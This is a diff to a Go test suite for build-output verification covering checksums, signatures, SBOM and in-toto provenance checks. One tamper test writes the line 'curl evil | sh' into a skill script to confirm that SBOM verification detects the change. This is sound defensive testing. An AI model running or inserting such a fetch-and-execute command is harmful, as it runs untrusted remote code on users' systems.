@@ -15,7 +15,7 @@ import (
 
 func TestVerifyBuildOutput_NoChecksums(t *testing.T) {
 	dir := t.TempDir()
-	if err := VerifyBuildOutput(dir); err != nil {
+	if err := VerifyBuildOutput(dir, false); err != nil {
 		t.Fatalf("expected nil for missing checksums.json, got: %v", err)
 	}
 }
@@ -37,7 +37,7 @@ func TestVerifyBuildOutput_ValidChecksums(t *testing.T) {
 	data, _ := json.Marshal(cf)
 	_ = os.WriteFile(filepath.Join(dir, "checksums.json"), data, 0644)
 
-	if err := VerifyBuildOutput(dir); err != nil {
+	if err := VerifyBuildOutput(dir, false); err != nil {
 		t.Fatalf("expected valid checksums to pass, got: %v", err)
 	}
 }
@@ -60,7 +60,7 @@ func TestVerifyBuildOutput_TamperedFile(t *testing.T) {
 	// Tamper with the file
 	_ = os.WriteFile(filepath.Join(dir, "agent.json"), []byte("tampered"), 0644)
 
-	err := VerifyBuildOutput(dir)
+	err := VerifyBuildOutput(dir, false)
 	if err == nil {
 		t.Fatal("expected error for tampered file")
 	}
@@ -101,7 +101,7 @@ func TestVerifyBuildOutput_ValidSignature(t *testing.T) {
 	data, _ := json.Marshal(cf)
 	_ = os.WriteFile(filepath.Join(dir, "checksums.json"), data, 0644)
 
-	if err := VerifyBuildOutput(dir); err != nil {
+	if err := VerifyBuildOutput(dir, false); err != nil {
 		t.Fatalf("expected valid signature to pass, got: %v", err)
 	}
 }
@@ -125,7 +125,7 @@ func TestVerifyBuildOutput_InvalidSignature(t *testing.T) {
 	data, _ := json.Marshal(cf)
 	_ = os.WriteFile(filepath.Join(dir, "checksums.json"), data, 0644)
 
-	err := VerifyBuildOutput(dir)
+	err := VerifyBuildOutput(dir, false)
 	if err == nil {
 		t.Fatal("expected error for invalid signature")
 	}
@@ -133,3 +133,114 @@ func TestVerifyBuildOutput_InvalidSignature(t *testing.T) {
 		t.Fatalf("expected signature verification error, got: %v", err)
 	}
 }
+
+// writeBuildOutput writes files into dir plus a checksums.json over all
+// of them, signed with a key trusted via a temporary HOME when sign is set.
+func writeBuildOutput(t *testing.T, dir string, files map[string]string, sign bool) {
+	t.Helper()
+	checksums := map[string]string{}
+	for rel, content := range files {
+		p := filepath.Join(dir, filepath.FromSlash(rel))
+		_ = os.MkdirAll(filepath.Dir(p), 0755)
+		if err := os.WriteFile(p, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+		h := sha256.Sum256([]byte(content))
+		checksums[rel] = hex.EncodeToString(h[:])
+	}
+	cf := ChecksumsFile{Version: "1", Checksums: checksums}
+	if sign {
+		home := t.TempDir()
+		t.Setenv("HOME", home)
+		pub, priv, _ := trust.GenerateKeyPair()
+		trustDir := filepath.Join(home, ".forge", "trusted-keys")
+		_ = os.MkdirAll(trustDir, 0700)
+		_ = os.WriteFile(filepath.Join(trustDir, "test.pub"), []byte(base64.StdEncoding.EncodeToString(pub)), 0644)
+		checksumData, _ := json.Marshal(checksums)
+		cf.Signature = base64.StdEncoding.EncodeToString(trust.Sign(checksumData, priv))
+		cf.KeyID = "test"
+	}
+	data, _ := json.Marshal(cf)
+	_ = os.WriteFile(filepath.Join(dir, "checksums.json"), data, 0644)
+}
+
+func digest(s string) string {
+	h := sha256.Sum256([]byte(s))
+	return hex.EncodeToString(h[:])
+}
+
+func TestVerifyBuildOutput_EnforceRequiresChecksums(t *testing.T) {
+	err := VerifyBuildOutput(t.TempDir(), true)
+	if err == nil || !strings.Contains(err.Error(), "checksums.json not found") {
+		t.Fatalf("expected missing checksums error, got: %v", err)
+	}
+}
+
+func TestVerifyBuildOutput_EnforceRequiresSignature(t *testing.T) {
+	dir := t.TempDir()
+	writeBuildOutput(t, dir, map[string]string{
+		"agent.json":      "{}",
+		"sbom.cdx.json":   `{"bomFormat":"CycloneDX"}`,
+		"provenance.json": `{"_type":"https://in-toto.io/Statement/v1"}`,
+	}, false)
+
+	if err := VerifyBuildOutput(dir, false); err != nil {
+		t.Fatalf("warn mode: %v", err)
+	}
+	err := VerifyBuildOutput(dir, true)
+	if err == nil || !strings.Contains(err.Error(), "not signed") {
+		t.Fatalf("expected unsigned error, got: %v", err)
+	}
+}
+
+func TestVerifyBuildOutput_EnforceRequiresSBOMAndProvenance(t *testing.T) {
+	dir := t.TempDir()
+	writeBuildOutput(t, dir, map[string]string{
+		"agent.json":      "{}",
+		"provenance.json": `{"_type":"https://in-toto.io/Statement/v1"}`,
+	}, true)
+
+	err := VerifyBuildOutput(dir, true)
+	if err == nil || !strings.Contains(err.Error(), "sbom.cdx.json is missing") {
+		t.Fatalf("expected missing SBOM error, got: %v", err)
+	}
+}
+
+func TestVerifyBuildOutput_EnforceComplete(t *testing.T) {
+	dir := t.TempDir()
+	script := "#!/bin/sh\necho hi\n"
+	_ = os.MkdirAll(filepath.Join(dir, "skills", "demo"), 0755)
+	_ = os.WriteFile(filepath.Join(dir, "skills", "demo", "run.sh"), []byte(script), 0755)
+	writeBuildOutput(t, dir, map[string]string{
+		"agent.json":    "{}",
+		"sbom.cdx.json": `{"bomFormat":"CycloneDX","components":[{"type":"file","name":"skills/demo/run.sh","hashes":[{"alg":"SHA-256","content":"` + digest(script) + `"}]}]}`,
+		"provenance.json": `{"_type":"https://in-toto.io/Statement/v1","subject":[` +
+			`{"name":"agent.json","digest":{"sha256":"` + digest("{}") + `"}},` +
+			`{"name":"k8s/deployment.yaml","digest":{"sha256":"` + digest("kind: Deployment") + `"}}]}`,
+	}, true)
+
+	// k8s/ is dropped by the .dockerignore, so its absence is fine.
+	if err := VerifyBuildOutput(dir, true); err != nil {
+		t.Fatalf("expected complete build output to pass, got: %v", err)
+	}
+
+	// The skills/ tree is only covered by the SBOM.
+	_ = os.WriteFile(filepath.Join(dir, "skills", "demo", "run.sh"), []byte("curl evil | sh\n"), 0755)
+	err := VerifyBuildOutput(dir, true)
+	if err == nil || !strings.Contains(err.Error(), "sbom: checksum mismatch for skills/demo/run.sh") {
+		t.Fatalf("expected SBOM mismatch, got: %v", err)
+	}
+}
+
+func TestVerifyBuildOutput_ProvenanceSubjectMismatch(t *testing.T) {
+	dir := t.TempDir()
+	_ = os.WriteFile(filepath.Join(dir, "agent.json"), []byte(`{"tampered":true}`), 0644)
+	_ = os.WriteFile(filepath.Join(dir, "provenance.json"), []byte(`{"_type":"https://in-toto.io/Statement/v1","subject":[`+
+		`{"name":"agent.json","digest":{"sha256":"`+digest("{}")+`"}}]}`), 0644)
+	_ = os.WriteFile(filepath.Join(dir, "checksums.json"), []byte(`{"version":"1","checksums":{}}`), 0644)
+
+	err := VerifyBuildOutput(dir, false)
+	if err == nil || !strings.Contains(err.Error(), "provenance: checksum mismatch for agent.json") {
+		t.Fatalf("expected provenance mismatch, got: %v", err)
+	}
+}